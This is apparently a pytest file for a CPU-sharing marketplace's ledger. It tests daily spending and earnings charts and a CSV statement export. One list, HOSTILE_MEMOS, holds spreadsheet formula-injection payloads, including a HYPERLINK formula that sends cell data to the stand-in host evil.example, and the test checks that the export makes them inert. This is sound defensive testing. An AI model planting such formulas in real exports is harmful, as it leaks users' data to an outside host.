"""
What the web site's charts and CSV download read from the ledger, on a
real database (SQLite and PostgreSQL, the `conn` fixture of
test/conftest.py): a buyer's spending and a seller's earnings a day, and
the statement as CSV text a spreadsheet cannot be tricked by.
"""

import calendar
import csv
import datetime
import io
from types import SimpleNamespace

import pytest

from cpushare.money import MICRO
from cpushare.server import admin
from cpushare.server.db import leases as leasesql
from cpushare.server.db import store
from cpushare.server.money import escrow, ledger, statements
from cpushare.server.money.billing import bill, openLease
from cpushare.server.money.ledger import EARNINGS, FUNDS, HELD, PENDING
from cpushare.server.money.statements import Statements
from test.unit.test_billing import INTERVAL, PRICE, WINDOW, check, run
from test.unit.test_moneydesk import ConnectionStore

DAY = 86400
# "Now" for these tests: Dec 3, 2026 at noon UTC.
NOW = calendar.timegm((2026, 12, 3, 12, 0, 0))
TODAY = NOW - 12 * 3600


@pytest.fixture
def ledgerDay(monkeypatch):
    """Call with a day (0 today, -1 yesterday) and a time of day: the ledger's clock is there."""
    def at(day, seconds=12 * 3600):
        stamp = datetime.datetime.fromtimestamp(TODAY + day * DAY + seconds,
                                                datetime.timezone.utc)
        monkeypatch.setattr(ledger, "now", lambda: stamp.isoformat(timespec="seconds"))
    return at


def account(conn, name):
    return run(conn, store.createAccount, name, name.encode().hex().ljust(64, "0")[:64])


def order(conn, buyer):
    conn.execute("INSERT INTO images (sha256, size, stored) SELECT 'x', 1, 'now'"
                 " WHERE NOT EXISTS (SELECT 1 FROM images WHERE sha256 = 'x')")
    orderId, [vmId] = run(conn, store.createOrder, buyer, "x", 1, 2, 256)
    return orderId, vmId


def lease(conn, buyer, seller, started, verdict=None):
    """A lease of 2 cores at PRICE (10 micro-units a core-second), its VM alive at once."""
    orderId, vmId = order(conn, buyer)
    leaseId = run(conn, openLease, vmId, orderId, buyer, seller, "sam", PRICE, 0, 2, started,
                  INTERVAL, WINDOW, verdict=verdict)
    run(conn, leasesql.showedLife, leaseId, started)
    return leaseId


def series(conn, fn, owner, days=30):
    result = []
    method = getattr(Statements(ConnectionStore(conn)), fn)
    method(SimpleNamespace(id=owner), days, NOW).addCallback(result.append)
    [points] = result
    return points


@pytest.fixture
def history(conn, ledgerDay):
    """
    alice buys from sam: 0.0003 charged 40 days ago, 0.0007 two days ago,
    0.0005 today, and a replicated lease today whose 0.0004 its rejected
    verdict gives back; carol buys 0.0002 from sam yesterday.
    """
    alice, sam, carol = account(conn, "alice"), account(conn, "sam"), account(conn, "carol")
    ledgerDay(-41)
    run(conn, admin.credit, "alice", 100 * MICRO, "trial credit")
    run(conn, admin.credit, "carol", 100 * MICRO, "trial credit")
    ledgerDay(-40)
    first = lease(conn, alice, sam, 1000.0)
    assert run(conn, bill, first, 30.0, 0, 1060.0, False, INTERVAL, WINDOW).charged == 300
    ledgerDay(-2)
    assert run(conn, bill, first, 100.0, 0, 1100.0, False, INTERVAL, WINDOW).charged == 700
    ledgerDay(-1)
    other = lease(conn, carol, sam, 5000.0)
    assert run(conn, bill, other, 20.0, 0, 5060.0, True, INTERVAL, WINDOW).charged == 200
    ledgerDay(0)
    assert run(conn, bill, first, 150.0, 0, 1105.0, True, INTERVAL, WINDOW).charged == 500
    replicated = lease(conn, alice, sam, 2000.0, verdict="pending")
    assert run(conn, bill, replicated, 40.0, 0, 2060.0, True, INTERVAL, WINDOW).charged == 400
    assert run(conn, escrow.decide, replicated, escrow.REJECTED).amount == 400
    check(conn)
    return {"alice": alice, "sam": sam, "carol": carol}


def nonZero(points):
    return {(t - TODAY) // DAY: amount for t, amount in points if amount}


def test_spending_and_earnings_a_day_come_from_charges_less_rejected_verdicts(conn, history):
    spent = series(conn, "spentByDay", history["alice"])
    # Thirty days ending today, each at its UTC midnight.
    assert [t for t, _ in spent] == [TODAY - DAY * back for back in range(29, -1, -1)]
    # The charge of 40 days ago is out of the window; today's replicated
    # lease was charged and given back by its verdict.
    assert nonZero(spent) == {-2: 700, 0: 500}
    assert nonZero(series(conn, "earnedByDay", history["sam"])) == {-2: 700, -1: 200, 0: 500}
    # Nobody sees another's: carol spent only hers, and earned nothing.
    assert nonZero(series(conn, "spentByDay", history["carol"])) == {-1: 200}
    assert nonZero(series(conn, "earnedByDay", history["carol"])) == {}
    assert nonZero(series(conn, "earnedByDay", history["alice"])) == {}


def test_over_enough_days_the_series_add_up_to_the_balances(conn, history):
    alice = run(conn, ledger.balances, history["alice"])
    spent = sum(amount for _, amount in series(conn, "spentByDay", history["alice"], days=45))
    assert spent == 100 * MICRO - alice[FUNDS] - alice[HELD] == 1500
    sam = run(conn, ledger.balances, history["sam"])
    earned = sum(amount for _, amount in series(conn, "earnedByDay", history["sam"], days=45))
    assert earned == sam[EARNINGS] + sam[PENDING] == 1700


def test_a_day_runs_from_midnight_to_midnight_utc(conn, ledgerDay):
    alice, sam = account(conn, "alice"), account(conn, "sam")
    run(conn, admin.credit, "alice", MICRO, "credit")
    for day, seconds, amount in ((-2, DAY - 1, 1), (-1, 0, 20), (-1, DAY - 1, 300), (0, 0, 4000)):
        ledgerDay(day, seconds)
        run(conn, ledger.post, "charge", "a charge",
            [(FUNDS, alice, -amount), (EARNINGS, sam, amount)])
    assert series(conn, "spentByDay", alice, days=2) == [(TODAY - DAY, 320), (TODAY, 4000)]
    assert series(conn, "spentByDay", alice, days=1) == [(TODAY, 4000)]


def test_a_clock_set_back_an_hour_at_the_windows_start_loses_nothing(conn, ledgerDay):
    alice, sam = account(conn, "alice"), account(conn, "sam")
    ledgerDay(-5)
    run(conn, admin.credit, "alice", MICRO, "credit")
    # Posted in this order: the clock went back 40 minutes between the
    # second and the third charge of the window.
    for day, seconds, amount in ((-3, 0, 1), (-3, 60, 2), (-3, 120, 4), (-1, 600, 20),
                                 (-2, DAY - 1800, 300), (-1, 7200, 4000)):
        ledgerDay(day, seconds)
        run(conn, ledger.post, "charge", "a charge",
            [(FUNDS, alice, -amount), (EARNINGS, sam, amount)])
    assert series(conn, "spentByDay", alice, days=2) == [(TODAY - DAY, 4020), (TODAY, 0)]
    assert series(conn, "earnedByDay", sam, days=3) == [
        (TODAY - 2 * DAY, 300), (TODAY - DAY, 4020), (TODAY, 0)]


@pytest.mark.parametrize("days", [0, -1, statements.MAX_SERIES_DAYS + 1, "30", True, 2.5])
def test_a_series_of_no_days_or_too_many_is_refused(conn, days):
    desk = Statements(ConnectionStore(conn))
    with pytest.raises(ValueError, match=f"a series covers 1 to {statements.MAX_SERIES_DAYS}"
                                         " days"):
        desk.spentByDay(SimpleNamespace(id=1), days, NOW)


def test_without_a_clock_given_the_series_ends_on_the_ledgers_today(conn):
    points = []
    Statements(ConnectionStore(conn)).spentByDay(SimpleNamespace(id=1), 3).addCallback(
        points.append)
    today = datetime.datetime.now(datetime.timezone.utc).date()
    assert [datetime.datetime.fromtimestamp(t, datetime.timezone.utc).date()
            for t, _ in points[0]] == [today - datetime.timedelta(days=n) for n in (2, 1, 0)]


HOSTILE_MEMOS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+1", "-2+3",
                 "@SUM(A1:A9)", "\tindented", "\rcarriage", 'plain, with "quotes"\nand a line']


def csvOf(conn, owner, limit=statements.CSV_ENTRIES):
    result = []
    Statements(ConnectionStore(conn)).csvStatement(
        SimpleNamespace(id=owner), "USD", limit).addCallback(result.append)
    return result[0]


def test_the_statement_as_csv_is_safe_in_a_spreadsheet(conn, history):
    alice = history["alice"]
    for memo in HOSTILE_MEMOS:
        run(conn, admin.credit, "alice", MICRO, memo)
    download = csvOf(conn, alice)
    rows = list(csv.reader(io.StringIO(download.text, newline="")))
    assert rows[0] == ["date", "kind", "account", "memo", "amount (USD)", "balance (USD)"]
    entries, more = run(conn, statements.statementPage, alice, None, 10_000)
    assert not more and download.entries == len(entries) == len(rows) - 1
    assert not download.more
    # Newest first: the hostile memos, each made inert, the rest as written.
    memos = [row[3] for row in rows[1:len(HOSTILE_MEMOS) + 1]]
    assert memos == ["'" + m if m[0] in "=+-@\t\r" else m for m in reversed(HOSTILE_MEMOS)]
    for row in rows[1:]:
        for cell in row[:4]:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), row
        # Amounts are numbers with six decimals, negative ones too.
        for cell in row[4:]:
            whole, fraction = cell.lstrip("-").split(".")
            assert whole.isdigit() and len(fraction) == 6, row
    # The amounts of the funds account add up to its balance, shown on its newest row.
    funds = [row for row in rows[1:] if row[2] == FUNDS]
    total = sum(int(row[4].replace(".", "")) for row in funds)
    assert total == run(conn, ledger.balances, alice)[FUNDS]
    assert int(funds[0][5].replace(".", "")) == total
    # The newest charge: today's replicated lease's, from the funds held for it.
    charge = next(row for row in rows[1:] if row[1] == "charge")
    assert charge[2] == HELD and charge[4] == "-0.000400"
    assert charge[0].startswith(str(datetime.date(2026, 12, 3)))


def test_a_long_statement_as_csv_keeps_its_newest_entries(conn, history):
    download = csvOf(conn, history["alice"], limit=2)
    assert download.entries == 2 and download.more
    assert len(list(csv.reader(io.StringIO(download.text, newline="")))) == 3
